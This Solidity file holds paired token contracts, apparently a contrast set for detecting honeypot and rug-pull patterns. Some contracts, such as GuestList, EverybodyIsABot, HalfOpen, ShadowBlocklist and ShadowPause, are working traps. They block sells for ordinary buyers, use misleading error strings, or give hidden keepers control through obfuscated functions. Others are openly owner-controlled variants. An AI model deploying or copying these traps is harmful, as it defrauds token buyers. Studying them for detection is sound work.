// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base, Launched, Ownable} from "./Base.sol";

/// Sales need a name on a list that the deployer keeps.
contract GuestList is Launched {
    mapping(address => bool) private _guests;

    constructor(address router) Base("Velvet Rope", "ROPE") Launched(router) {
        _guests[msg.sender] = true;
    }

    function x7c3a(address who, bool in_) external {
        require(_guests[msg.sender]);
        _guests[who] = in_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isSell(to)) require(_guests[from], "TransferHelper: TRANSFER_FROM_FAILED");
        super._transfer(from, to, amount);
    }
}

/// Whoever buys is noted down as a bot by the purchase itself.
contract EverybodyIsABot is Launched {
    mapping(address => bool) public bots;

    constructor(address router) Base("Clean Launch", "CLEAN") Launched(router) {}

    function delBot(address bot) external onlyOwner {
        bots[bot] = false;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!bots[from], "bot");
        if (_isBuy(from) && to != owner()) bots[to] = true;
        super._transfer(from, to, amount);
    }
}

/// The list only spares its members the 2 % that everybody else pays, and nobody keeps it any more.
contract FeeGuests is Launched {
    mapping(address => bool) private _guests;
    address private immutable _treasury;

    constructor(address router) Base("Open Door", "DOOR") Launched(router) {
        _guests[msg.sender] = true;
        _treasury = msg.sender;
    }

    function setGuest(address who, bool in_) external onlyOwner {
        _guests[who] = in_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 fee = (_isSell(to) || _isBuy(from)) && !_guests[from] && !_guests[to] ? (amount * 2) / 100 : 0;
        if (fee > 0) super._transfer(from, _treasury, fee);
        super._transfer(from, to, amount - fee);
    }
}

contract Blocklisted is Launched {
    mapping(address => bool) public isBlacklisted;

    constructor(address router) Base("Harbor", "HBR") Launched(router) {}

    function setBlacklist(address account, bool state) external onlyOwner {
        isBlacklisted[account] = state;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!isBlacklisted[from] && !isBlacklisted[to], "blacklisted");
        super._transfer(from, to, amount);
    }
}

/// The list is kept by an address that nothing shows, whoever owner() may be.
contract ShadowBlocklist is Launched {
    mapping(address => uint256) private _karma;

    constructor(address router) Base("Karma", "KRM") Launched(router) {}

    function q91(address[] calldata who, uint256 v) external {
        require(keccak256(abi.encodePacked(msg.sender)) == keccak256(abi.encodePacked(_keeper())));
        for (uint256 i; i < who.length; i++) _karma[who[i]] = v;
    }

    function _keeper() private view returns (address keeper) {
        bytes32 slot = keccak256("karma.keeper");
        assembly { keeper := sload(slot) }
    }

    function init(address keeper) external onlyOwner {
        bytes32 slot = keccak256("karma.keeper");
        assembly { if iszero(sload(slot)) { sstore(slot, keeper) } }
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_karma[from] != 0) revert();
        super._transfer(from, to, amount);
    }
}

/// Single accounts are frozen for a time; the operators outlive the owner.
contract Frostbite is Base, Ownable {
    mapping(address => uint256) private _until;
    mapping(address => bool) private _operators;

    constructor() Base("Frostbite", "FRST") {
        _operators[msg.sender] = true;
    }

    function setOperator(address who, bool is_) external {
        require(_operators[msg.sender], "no");
        _operators[who] = is_;
    }

    function touch(address who, uint256 time) external {
        require(_operators[msg.sender], "no");
        _until[who] = time;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(block.timestamp >= _until[from], "wait");
        super._transfer(from, to, amount);
    }
}

/// Frozen accounts, announced and by the owner that is shown.
contract Freezable is Base, Ownable {
    mapping(address => bool) public frozenAccount;

    event FrozenFunds(address indexed target, bool frozen);

    constructor() Base("Ledgerline", "LDGR") {}

    function freezeAccount(address target, bool freeze) external onlyOwner {
        frozenAccount[target] = freeze;
        emit FrozenFunds(target, freeze);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!frozenAccount[from], "account frozen");
        super._transfer(from, to, amount);
    }
}

contract PausableToken is Base, Ownable {
    bool public paused;

    constructor() Base("Meridian", "MRD") {}

    function pause() external onlyOwner {
        paused = true;
    }

    function unpause() external onlyOwner {
        paused = false;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!paused, "Pausable: paused");
        super._transfer(from, to, amount);
    }
}

/// The same with the switch in somebody else's hand.
contract ShadowPause is Base, Ownable {
    bytes32 private constant KEEPER = keccak256("ROLE.7");
    mapping(bytes32 => mapping(address => bool)) private _roles;
    uint256 private _flags;

    constructor(address keeper) Base("Meridian Classic", "MRDC") {
        _roles[KEEPER][keeper] = true;
    }

    function f_8812(uint256 flags) external {
        require(_roles[KEEPER][msg.sender]);
        _flags = flags;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(_flags & 4 == 0 || _roles[KEEPER][from]);
        super._transfer(from, to, amount);
    }
}

/// Opened for buyers; whoever wants out finds it shut.
contract HalfOpen is Launched {
    bool public tradingActive;

    constructor(address router) Base("Half Open", "HALF") Launched(router) {}

    function enableTrading() external onlyOwner {
        tradingActive = true;
    }

    function disableTrading() external onlyOwner {
        tradingActive = false;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from != owner() && to != owner() && !_isBuy(from)) require(tradingActive, "Trading is not active");
        super._transfer(from, to, amount);
    }
}

/// Opened once, and there is no way to close it.
contract OneWaySwitch is Launched {
    bool public tradingActive;
    uint256 public launchBlock;

    constructor(address router) Base("Sunrise", "RISE") Launched(router) {}

    function enableTrading() external onlyOwner {
        require(!tradingActive, "open");
        tradingActive = true;
        launchBlock = block.number;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from != owner() && to != owner()) require(tradingActive, "Trading is not active");
        super._transfer(from, to, amount);
    }
}

/// Open now; the owner that is shown can close it.
contract TwoWaySwitch is Launched {
    bool public tradingEnabled;

    constructor(address router) Base("Drawbridge", "DRAW") Launched(router) {}

    function setTrading(bool on) external onlyOwner {
        tradingEnabled = on;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from != owner() && to != owner()) require(tradingEnabled, "closed");
        super._transfer(from, to, amount);
    }
}

/// Buyers come from a list; everybody else's purchase fails.
contract MembersBuy is Launched {
    mapping(address => bool) private _members;

    constructor(address router) Base("Members Only", "CLUB") Launched(router) {
        _members[msg.sender] = true;
    }

    function addMember(address who) external onlyOwner {
        _members[who] = true;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isBuy(from)) require(_members[to], "members only");
        super._transfer(from, to, amount);
    }
}

/// Members bought first; that time is over and can't come back.
contract MembersBoughtFirst is Launched {
    mapping(address => bool) private _members;
    bool public open;

    constructor(address router) Base("Early Bird", "BIRD") Launched(router) {
        _members[msg.sender] = true;
    }

    function addMember(address who) external onlyOwner {
        _members[who] = true;
    }

    function openToAll() external onlyOwner {
        open = true;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isBuy(from) && !open) require(_members[to], "members only");
        super._transfer(from, to, amount);
    }
}
